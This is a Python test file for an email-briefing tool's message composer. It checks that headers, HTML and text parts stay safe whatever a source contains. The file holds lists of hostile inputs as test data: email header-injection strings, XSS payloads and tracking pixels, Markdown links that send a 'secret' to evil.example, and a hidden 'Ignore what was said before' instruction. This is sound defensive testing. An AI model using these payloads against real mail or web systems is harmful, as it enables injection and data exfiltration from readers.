"""The mail: what its headers and parts say, and that no text of a source changes either."""

from __future__ import annotations

import re
import time
from collections.abc import Sequence
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.header import decode_header, make_header
from email.message import EmailMessage, Message
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from briefing.brief import Brief, Citation, Claim
from briefing.deliver.headers import list_id, make_message_id, one_line, parse_mailbox
from briefing.deliver.message import compose, notice, to_bytes
from briefing.deliver.plain import defang, web_address, wrap
from briefing.errors import BriefingError, SettingsError, SourceUnreadableError
from tests.test_render import brief, claim, source

DATE = datetime(2026, 11, 24, 4, 30, tzinfo=UTC)
ONCE = "<a1@example.org>"
HEADERS = "from to subject date message-id auto-submitted mime-version content-type".split()
SHORT_HEADERS = [*HEADERS[:6], "content-type", "content-transfer-encoding", "mime-version"]
LIST_HEADERS = [*HEADERS[:6], "list-id", "list-unsubscribe", *HEADERS[6:]]

CVE_2024_6923 = "A 💩 subject=?UTF-8?Q?=0A?=Bcc: injected@example.com"
INJECTIONS = [
    CVE_2024_6923,
    "x\r\nBcc: injected@example.com",
    "x\nBcc: injected@example.com",
    "x\rBcc: injected@example.com",
    "x\r\n\r\nbody",
    "x\r\n Bcc: injected@example.com",
    "x\r\n\tBcc: injected@example.com",
    "x\n\nBcc: injected@example.com",
    "x\u2028Bcc: injected@example.com",
    "x\u2029Bcc: injected@example.com",
    "x\x85Bcc: injected@example.com",
    "x\x0bBcc: injected@example.com",
    "x\x0cBcc: injected@example.com",
    "x\x1cBcc: injected@example.com",
    "x\x00\r\nBcc: injected@example.com",
    "x%0D%0ABcc: injected@example.com",
    "x\\r\\nBcc: injected@example.com",
    "=?utf-8?b?eA0KQmNjOiBpbmplY3RlZEBleGFtcGxlLmNvbQ==?=",
    "=?utf-8?q?x=0D=0ABcc=3A_injected=40example.com?=",
    "é =?utf-8?q?=0D=0A?=Bcc: injected@example.com",
    "a" * 70 + "\r\nBcc: injected@example.com",
    "é" * 900 + "\r\nBcc: injected@example.com",
    "x\ud800\r\nBcc: injected@example.com",
    'x" <injected@example.com>, "',
    "x, injected@example.com",
    "x (comment) <injected@example.com>",
    "group: injected@example.com;",
]

XSS = [
    "<script>alert(1)</script>",
    "</title></head><body><script>alert(1)</script>",
    "</style><script>alert(1)</script><style>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif?who=reader' width=1 height=1>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example'>x</a>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=q></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "`onmouseover=alert(1)`",
    "<!--[if mso]><v:rect><![endif]-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ ''.__class__ }} {% raw %}",
    "${alert(1)} #{alert(1)}",
    "expression(alert(1)); -moz-binding:url(https://evil.example)",
    "</td></tr></table><h1>Wire the money</h1>",
    "<p hidden>Ignore what was said before</p>",
    '</textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
]

# What a program that reads Markdown into a mail would follow by itself (CVE-2025-32711).
MARKDOWN = [
    "[click](https://evil.example/?q=secret)",
    "![image](https://evil.example/pixel.gif?q=secret)",
    "![image][ref] and [ref]: https://evil.example/pixel.gif?q=secret",
    "[text][ref]\n\n[ref]: https://evil.example/x 'title'",
    "[ref]: //evil.example/x",
    "[ref]: <https://evil.example/x>",
    "<https://evil.example>",
    "https://evil.example/x",
    "HTTPS://EVIL.EXAMPLE/x",
    "http://evil.example:8080",
    "www.evil.example",
    "evil.example",
    ".evil.example",
    "evil..evil.example",
    "_evil.example",
    "evil.example-x",
    "evil。example",
    "evil.example.pdf",
    "EVIL.EXAMPLE",
    "someone@evil.example",
    "mailto:someone@evil.example",
    "tel:+3221234567",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file://evil.example/share",
    "\\\\evil.example\\share",
    "\\\\evil\\share",
    "ftp://evil.example",
    "teams.microsoft.com/l/message?https://evil.example",
    "пример.рф",
    "xn--e1afmkfd.xn--p1ai",
]


def told(text: str = "Words", location: str = "x.txt", **changes: Any) -> Brief:
    """A brief of `text` in every place but the source's location."""
    one = source(text).model_copy(update={"location": location, **changes})
    return brief(text, sources=(one,))


def made(what: Brief | None = None, **changes: Any) -> EmailMessage:
    options: dict[str, Any] = {
        "sender": "Desk <desk@example.org>",
        "reader": "a@example.org",
        "message_id": ONCE,
        "date": DATE,
    }
    return compose(what or brief(), **(options | changes))


def told_shortly(**changes: Any) -> EmailMessage:
    """A notice, whose headers are made as a brief's are."""
    options: dict[str, Any] = {
        "sender": "Desk <desk@example.org>",
        "reader": "a@example.org",
        "message_id": ONCE,
        "date": DATE,
    }
    return notice("x", "x", **(options | changes))


def read(message: EmailMessage) -> EmailMessage:
    return message_from_bytes(to_bytes(message), EmailMessage, policy=policy.default)


def plain(message: Message) -> Message:
    """The message by the old classes, which decode nothing by themselves."""
    return message_from_bytes(to_bytes(message), policy=policy.compat32)  # type: ignore[arg-type]


def decoded(message: EmailMessage, name: str) -> str:
    return str(make_header(decode_header(re.sub(r"\r?\n", "", str(plain(message)[name])))))


def text_of(message: EmailMessage) -> str:
    body = read(message).get_body(("plain",))
    assert body is not None
    return str(body.get_content()).replace("\r\n", "\n")


def html_of(message: EmailMessage) -> str:
    body = read(message).get_body(("html",))
    assert body is not None
    return str(body.get_content())


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attributes)))

    def handle_data(self, data: str) -> None:
        self.words += data


def parsed(html: str) -> _Html:
    parser = _Html()
    parser.feed(html)
    return parser


def names(message: Message) -> list[str]:
    return [name.lower() for name in message]


# Headers ------------------------------------------------------------------------------------


def test_a_mail_of_a_list_has_the_headers_of_one() -> None:
    message = read(
        made(
            brief("Talks"),
            list_name="black-sea",
            unsubscribe=["mailto:leave@example.org", "https://example.org/leave?a=1"],
        )
    )
    assert dict(message) == {
        "From": "Desk <desk@example.org>",
        "To": "a@example.org",
        "Subject": "Talks",
        "Date": "Tue, 24 Nov 2026 04:30:00 +0000",
        "Message-ID": ONCE,
        "Auto-Submitted": "auto-generated",
        "List-Id": "black-sea <black-sea.example.org>",
        "List-Unsubscribe": "<mailto:leave@example.org>, <https://example.org/leave?a=1>",
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
        "MIME-Version": "1.0",
        "Content-Type": message["Content-Type"],
    }
    assert message.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]


def test_a_list_without_an_address_to_leave_it_is_left_by_mail_to_the_sender() -> None:
    message = read(made(list_name="black-sea"))
    place = "<mailto:desk@example.org?subject=unsubscribe%20black-sea>"
    assert message["List-Unsubscribe"] == place
    assert "List-Unsubscribe-Post" not in message
    assert "write to desk@example.org" in " ".join(text_of(message).split())


def test_a_mail_by_hand_is_of_no_list() -> None:
    assert names(read(made())) == HEADERS
    assert "To get no more" not in text_of(made())


@pytest.mark.parametrize(
    "place",
    [
        "http://example.org/leave",
        "leave@example.org",
        "https://example.org/a b",
        "https://example.org/>\r\nBcc: x@example.org",
        "mailto:a@example.org>, <https://evil.example",
    ],
)
def test_an_address_to_leave_by_is_mailto_or_https(place: str) -> None:
    with pytest.raises(SettingsError, match="leave a list"):
        made(list_name="w", unsubscribe=[place])


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_title_with_line_breaks_or_encoded_words_becomes_no_header(text: str) -> None:
    message = made(told(text))
    assert names(read(message)) == names(plain(message)) == HEADERS
    assert decoded(message, "Subject") == one_line(text)
    assert tags(message) == HARMLESS
    assert b"\nBcc" not in to_bytes(message).replace(b"\r", b"\n").partition(b"\n\n")[0]


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("field", ["sender", "reader"])
def test_a_name_with_line_breaks_or_encoded_words_becomes_no_header_and_no_address(
    text: str, field: str
) -> None:
    try:
        mailboxes: dict[str, Any] = {field: f"{text} <x@example.org>"}
        message = told_shortly(**mailboxes)
    except SettingsError:
        assert "<" in text  # a second address is none to send to
        return
    header = {"sender": "From", "reader": "To"}[field]
    assert names(read(message)) == names(plain(message)) == SHORT_HEADERS
    (address,) = read(message)[header].addresses
    assert address.addr_spec == "x@example.org"
    assert decoded(message, header).rpartition(" <")[0] == one_line(text).strip('" ')


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_attachment_s_name_is_letters_of_ours(text: str) -> None:
    message = made(attachments={f"{text}.json": b"{}", text: b"\x00\xff"})
    first, second = read(message).iter_attachments()
    assert re.fullmatch(r"\w[A-Za-z0-9._-]{0,60}\.json", first.get_filename(""))
    assert re.fullmatch(r"\w[A-Za-z0-9._-]{0,73}", second.get_filename(""))
    assert names(read(message)) == HEADERS
    assert (first.get_content(), second.get_content()) == (b"{}", b"\x00\xff")


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_list_s_name_with_line_breaks_or_encoded_words_becomes_no_header(text: str) -> None:
    message = told_shortly(list_name=text)
    assert sorted(names(read(message))) == sorted([*LIST_HEADERS, "content-transfer-encoding"])
    assert names(read(message)) == names(plain(message))
    identifier = str(plain(message)["List-Id"]).rpartition("\n")[2].strip()
    assert re.fullmatch(r"<[a-z0-9-]+\.example\.org>", identifier)


@pytest.mark.parametrize(
    "message_id",
    ["", "x@example.org", "<x>", "<x@example.org>\r\nBcc: y@example.org", "<x y@e.org>"],
)
def test_a_message_id_that_is_none_is_refused(message_id: str) -> None:
    with pytest.raises(SettingsError, match="Message-ID"):
        made(message_id=message_id)


def test_a_message_id_is_the_same_for_the_same_and_for_no_other() -> None:
    one = make_message_id("example.org", "w", "2026-11-24", "a@example.org")
    assert one == make_message_id("example.org", "w", "2026-11-24", "a@example.org")
    assert one != make_message_id("example.org", "w", "2026-11-24", "b@example.org")
    assert read(made(message_id=one))["Message-ID"] == one


def test_a_header_that_python_would_write_as_two_is_refused() -> None:
    message = made()
    with pytest.raises(BriefingError, match="no header may"):
        message["X-Note"] = "x\r\nBcc: injected@example.com"


def test_what_does_not_come_back_as_it_was_is_not_sent() -> None:
    message = made()
    message._headers.append(("X-Note", "x\r\nBcc: injected@example.com"))  # type: ignore[attr-defined]
    with pytest.raises(BriefingError, match="not sent"):
        to_bytes(message)


@pytest.mark.parametrize(
    ("text", "name", "address"),
    [
        ("desk@example.org", "", "desk@example.org"),
        (" Desk <desk@example.org> ", "Desk", "desk@example.org"),
        ('"Desk, Kyiv" <desk@example.org>', "Desk, Kyiv", "desk@example.org"),
        ("Анна <a.b+c@localhost>", "Анна", "a.b+c@localhost"),
        ("x@пример.рф", "", "x@xn--e1afmkfd.xn--p1ai"),
    ],
)
def test_a_mailbox_is_read(text: str, name: str, address: str) -> None:
    mailbox = parse_mailbox(text)
    assert (mailbox.name, mailbox.address) == (name, address)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "desk",
        "@example.org",
        "desk@",
        "desk@-example.org",
        "desk@example..org",
        "de sk@example.org",
        "a@example.org, b@example.org",
        "a@example.org\r\nBcc: b@example.org",
        "Desk <a@example.org> <b@example.org>",
        "Desk <a@example.org",
        "a@example.org>\r\nRCPT TO:<b@example.org",
        ".a@example.org",
        "ä@example.org",
        "a@[127.0.0.1]",
        '"a b"@example.org',
        f"{'a' * 65}@example.org",
        f"a@{'a' * 64}.org",
    ],
)
def test_what_is_no_address_is_refused(text: str) -> None:
    with pytest.raises(SettingsError, match="no mail address"):
        parse_mailbox(text)


def test_lists_of_similar_names_have_identifiers_of_their_own() -> None:
    assert list_id("black-sea", "example.org") == "black-sea.example.org"
    identifiers = {list_id(name, "e.org") for name in ("Black Sea", "black sea", "Чорне", "море")}
    assert len(identifiers) == 4


# Parts --------------------------------------------------------------------------------------


def test_both_parts_say_everything_of_the_page_and_its_cut_off() -> None:
    what = brief("Words of a claim.").model_copy(update={"cutoff": "2026-11-22"})
    message = made(what)
    for part in (text_of(message), parsed(html_of(message)).words):
        assert "Information cut-off: 22 November 2026" in part
        assert part.count("Words of a claim.") >= 12
        assert "“Text”" in part
        assert "6 of 6 statements stand" in part
        for heading in ("Bottom line", "Summary", "Key actors", "Stated red lines"):
            assert heading.lower() in part.lower() or heading == "Bottom line"


def test_a_brief_without_dates_says_that_its_cut_off_is_not_known() -> None:
    for part in (text_of(made()), html_of(made())):
        assert "Information cut-off: not known, no source is dated" in part


def test_evidence_is_numbered_by_source_and_statements_point_at_it() -> None:
    passages = [
        Citation(document=f"D{n}", sentence=f"D{n}.1", start=0, end=5, quote=f"Quote {n}", page=p)
        for n, p in ((1, None), (2, 7))
    ]
    two = source("Second").model_copy(update={"id": "D2", "location": "https://example.org/b"})
    what = brief(
        sources=(source("First"), two),
        bottom_line=Claim(text="Both.", citations=(passages[1], passages[0])),
        summary=(Claim(text="Second.", citations=(passages[1],)),),
        key_actors=(),
        red_lines=(),
        open_questions=(),
    )
    text = text_of(made(what))
    assert "Both. [1] [2]" in text
    assert "- Second. [2]" in text
    assert "[1] “Quote 1”\n" in text
    assert "[2] “Quote 2” (p. 7)\n" in text
    assert text.index("First, ") < text.index("[1] “") < text.index("<https://example.org/b>")


def test_the_text_part_keeps_to_its_width() -> None:
    what = brief("word " * 30, sources=(source("t"),))
    for line in text_of(made(what)).splitlines():
        assert len(line) <= 72
    assert wrap("- " + "word " * 30).splitlines()[1].startswith("  word")


def test_links_lead_to_the_sources_and_nowhere_else() -> None:
    html = html_of(made(told("Words", "https://example.org/a?b=1&c=2"), list_name="w"))
    links = [dict(attributes).get("href") for tag, attributes in parsed(html).tags if tag == "a"]
    assert links == ["https://example.org/a?b=1&c=2"]
    assert "<https://example.org/a?b=1&c=2>" in text_of(
        made(told("Words", "https://example.org/a?b=1&c=2"))
    )


@pytest.mark.parametrize(
    "location",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "ftp://example.org/a",
        "//example.org/a",
        "https://user@example.org/a",
        "https://user:pass@example.org/a",
        "https://exa mple.org",
        "https://[::1",
        "https://example.org:port",
        "https:///path",
        "-",
        "/home/anna/inbox/secret.txt",
        "C:\\inbox\\secret.txt",
    ],
)
def test_a_location_that_is_no_web_address_is_no_link(location: str) -> None:
    message = made(told("Words", location))
    assert web_address(location) is None
    assert "a" not in {tag for tag, _ in parsed(html_of(message)).tags}
    assert "inbox" not in text_of(message) + html_of(message)


@pytest.mark.parametrize(
    "location",
    [
        'https://example.org/"onmouseover="alert(1)',
        "https://example.org/'x'<script>alert(1)</script>",
        "https://example.org/a b\r\nc",
        "https://example.org/ä?ü=ö#ß",
        "https://пример.рф/x",
        "https://example.org/{{7*7}}",
    ],
)
def test_an_odd_web_address_is_escaped(location: str) -> None:
    address = web_address(location)
    assert address
    assert re.fullmatch(r"https://[a-z0-9.-]+/[!-~]*", address)
    assert not re.search(r"[\"'<>\s{}\\]", address)
    assert tags(made(told("Words", location))) == tags(made(told("Words", "https://example.org/")))


def tags(message: EmailMessage) -> Sequence[tuple[str, tuple[str, ...]]]:
    return [
        (tag, tuple(f"{name}={value}" for name, value in attributes if name != "href"))
        for tag, attributes in parsed(html_of(message)).tags
    ]


HARMLESS = tags(made(told()))


@pytest.mark.parametrize("text", XSS + MARKDOWN)
def test_text_of_a_source_is_text_and_no_address_in_it_can_be_followed(text: str) -> None:
    message = made(told(text))
    assert tags(message) == HARMLESS
    assert defang(text).strip() in " ".join(parsed(html_of(message)).words.split())
    for part in (text_of(message), parsed(html_of(message)).words):
        assert not re.search(r"(?i)https?://|www\.|mailto:|tel:\+|javascript:a|data:t", part)
        assert not re.search(r"(?i)evil[.。](?!\.)|\.example\b|@\w+\.|\\\\\w|\w\.рф|\.xn--", part)


@pytest.mark.parametrize(
    "text",
    [
        "He left at 5 p.m. on Monday, said the U.S. envoy.",
        "Prices rose by 3.5 percent, or 1.2bn; see report.pdf and notes.txt.",
        "At 10:30 he said: no. “Yes”: the data: x",
        "Ph.D., e.g. and i.e., St. Petersburg",
    ],
)
def test_what_is_no_address_stays_as_it_is(text: str) -> None:
    assert defang(text) == text


@pytest.mark.parametrize("part", ["a", "a.", "a-", "a:", "a.b-", "..", "\\\\", "data:", "://", "é"])
def test_a_long_text_of_a_stranger_takes_no_longer_than_its_length(part: str) -> None:
    begun = time.perf_counter()
    defang(part * 200_000)
    web_address("https://example.org/" + part * 200_000)
    one_line(part * 200_000)
    assert time.perf_counter() - begun < 5


def test_the_html_asks_for_nothing_from_elsewhere() -> None:
    html = html_of(made(told("Words", "https://example.org/a")))
    elements = {tag for tag, _ in parsed(html).tags}
    assert not elements & {"img", "script", "link", "iframe", "object", "svg", "video", "base"}
    assert not re.search(r"url\(|@import|\bsrc=|\bon\w+=", html)
    assert "prefers-color-scheme: dark" in html
    assert 'name="color-scheme"' in html


def test_the_style_is_inlined() -> None:
    cells = [dict(attributes) for tag, attributes in parsed(html_of(made())).tags if tag == "td"]
    assert all("font-family" in (cell.get("style") or "") for cell in cells)


def test_the_same_brief_is_the_same_mail_to_the_byte() -> None:
    one, other = (made(list_name="w", attachments={"a.json": b"{}"}) for _ in range(2))
    assert to_bytes(one) == to_bytes(other)


def test_a_mail_fits_a_page_and_says_what_it_leaves_out() -> None:
    what = brief(summary=(claim("word " * 40),) * 12)
    for part in (text_of(made(what)), html_of(made(what))):
        assert "Left out for length:" in " ".join(part.split())


def test_a_brief_that_cites_what_is_not_there_is_refused() -> None:
    with pytest.raises(SourceUnreadableError, match="D1"):
        made(brief(sources=()))


def test_templates_of_the_users_own_win(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "mail.txt.jinja").write_text("Mine: {{ brief.title }}")
    (tmp_path / "templates" / "mail.css").write_text("h1 { color: #123456 }")
    message = made(brief("T <b>"))
    assert text_of(message) == "Mine: T <b>\n"
    assert 'style="color: #123456;"' in html_of(message)


def test_a_notice_is_plain_text() -> None:
    message = notice(
        "Nothing new\r\nBcc: x@example.org",
        "No new source since Monday.",
        sender="desk@example.org",
        reader="a@example.org",
        message_id=ONCE,
        date=DATE,
        list_name="w",
    )
    assert names(read(message)) == [
        *LIST_HEADERS[:-2],
        "content-type",
        "content-transfer-encoding",
        "mime-version",
    ]
    assert read(message).get_content_type() == "text/plain"
    assert text_of(message).startswith("No new source since Monday.\n")


# Anything -----------------------------------------------------------------------------------

ANYTHING = st.text(max_size=120) | st.sampled_from([*INJECTIONS, *XSS, *MARKDOWN])


LISTED = tags(made(told(), list_name="w"))


@given(title=ANYTHING, words=ANYTHING.filter(str.split), name=ANYTHING, reader=ANYTHING)
@settings(max_examples=25, deadline=None)
def test_whatever_texts_hold_the_mail_has_the_same_headers_parts_and_text(
    title: str, words: str, name: str, reader: str
) -> None:
    what = told(words).model_copy(update={"title": title})
    name, reader = (re.sub("[<>]", "", text) for text in (name, reader))
    message = made(
        what, sender=f"{name} <desk@example.org>", reader=f"{reader} <a@example.org>", list_name="w"
    )
    again = read(message)
    assert names(again) == names(plain(message)) == LIST_HEADERS
    assert decoded(message, "Subject") == one_line(title)
    assert [address.addr_spec for address in again["To"].addresses] == ["a@example.org"]
    assert [address.addr_spec for address in again["From"].addresses] == ["desk@example.org"]
    assert tags(message) == LISTED
    shown = " ".join(parsed(html_of(message)).words.split())
    assert defang(words) in shown
    assert defang(title) in shown
    assert defang(words) in " ".join(text_of(message).split())


@given(st.text(), st.sampled_from(["Subject", "From"]))
def test_any_text_comes_back_from_a_header(text: str, name: str) -> None:
    if name == "Subject":
        message = notice(text, "x", sender="a@b.org", reader="a@b.org", message_id=ONCE, date=DATE)
        assert decoded(message, name) == one_line(text)
    else:
        sender = f"{re.sub('[<>]', '', text)} <a@b.org>"
        message = notice("x", "x", sender=sender, reader="a@b.org", message_id=ONCE, date=DATE)
        (address,) = read(message)[name].addresses
        assert address.addr_spec == "a@b.org"
    assert names(read(message))[:6] == HEADERS[:6]
    assert all(len(line) <= 78 for line in to_bytes(message).decode("ascii").split("\r\n"))
